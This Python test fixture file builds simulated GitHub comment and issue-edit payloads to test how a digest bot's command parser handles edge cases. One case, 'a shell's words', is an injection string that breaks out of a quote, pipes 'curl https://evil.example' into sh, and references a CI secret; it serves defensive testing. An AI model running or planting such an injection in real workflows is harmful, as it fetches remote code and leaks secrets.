"""What GitHub may send when somebody comments on a digest's pull request, or edits the dashboard issue."""

from collections.abc import Callable
from typing import Any

from tests.github.double import Double

Payload = dict[str, Any]
MOST = 65_536  # the longest comment that GitHub takes


def on_pull_request(double: Double, text: str = "/regenerate core", by: str = "ada") -> Payload:
    """A comment on the pull request of a digest, the first of its repository."""
    if not double.hub.issues:
        double.branch("digest/harbour-2026")
        double.edit("digest/harbour-2026", "digests/harbour-2026.md", "# Draft\n")
        double.open_pull("digest/harbour-2026")
    return double.comment(1, text, by)


def on_closed(double: Double) -> Payload:
    on_pull_request(double)
    double.close(1)
    return double.comment(1, "/help")


def on_issue(double: Double) -> Payload:
    return double.comment(double.open_issue("Dashboard"), "/program\n\n[saved.html](https://github.com/files/1)")


def by_ghost(double: Double) -> Payload:
    """Whoever wrote it has no account any more."""
    payload = on_pull_request(double)
    payload["comment"]["user"] = None
    return payload


def edited(double: Double) -> Payload:
    return on_pull_request(double) | {"action": "edited", "changes": {"body": {"from": "hello"}}}


def said(text: str, by: str = "ada") -> Callable[[Double], Payload]:
    return lambda double: on_pull_request(double, text, by)


def edited_issue(double: Double, changes: Payload, by: str = "ada") -> Payload:
    """The event `issues`: a box was ticked, say, which is an edit of the issue's text."""
    payload = double.comment(double.open_issue("Dashboard", "- [x] draft harbour-2026"), "", by)
    return {key: payload[key] for key in ("issue", "repository", "sender")} | {"action": "edited", "changes": changes}


def ticked(double: Double) -> Payload:
    return edited_issue(double, {"body": {"from": "- [ ] draft harbour-2026"}})


def renamed(double: Double) -> Payload:
    return edited_issue(double, {"title": {"from": "Bashdoard"}})


def kept_current(double: Double) -> Payload:
    """The bot's own edit, which starts workflows when it is made with a GitHub App's token."""
    return edited_issue(double, {"body": {"from": ""}}, by="digest-bot[bot]")


# Each with whether a runner is worth starting for it. What is really a command, and from whom, the program decides.
COMMENTS: dict[str, tuple[Callable[[Double], Payload], bool]] = {
    "a command": (said("/regenerate core"), True),
    "a command by an outsider": (said("/regenerate core", by="mallory"), True),
    "a command with CRLF": (said("Thank you!\r\n\r\n/regenerate core\r\n"), True),
    "a command after spaces": (said("  /drop 3"), True),
    "a quoted command": (said("> /regenerate core\n\nWhat does this do?"), True),
    "a command in a code fence": (said("```\n/regenerate core\n```"), True),
    "two commands": (said("/drop 3\n/promote 4"), True),
    "as long as can be": (said("/add " + "x" * (MOST - 5)), True),
    "as long as can be, the command last": (said("x" * (MOST - 6) + "\n/help"), True),
    "bidirectional text": (said("\u202e/regenerate core\u202c"), True),
    "a shell's words": (
        said('/drop 3"; curl https://evil.example | sh; $(id) `id` ${{ secrets.OPENAI_API_KEY }}'),
        True,
    ),
    "a ghost's": (by_ghost, True),
    "on a closed pull request": (on_closed, True),
    "on an issue": (on_issue, True),
    "talk": (said("Looks good to me."), False),
    "nothing": (said(""), False),
    "the bot's own answer": (said("Done: /regenerate core", by="github-actions[bot]"), False),
    "another bot's": (said("/regenerate core", by="helper[bot]"), False),
    "an edit of a comment": (edited, False),
}
ISSUES: dict[str, tuple[Callable[[Double], Payload], bool]] = {
    "a ticked box": (ticked, True),
    "a new title": (renamed, False),
    "the bot's own edit": (kept_current, False),
}
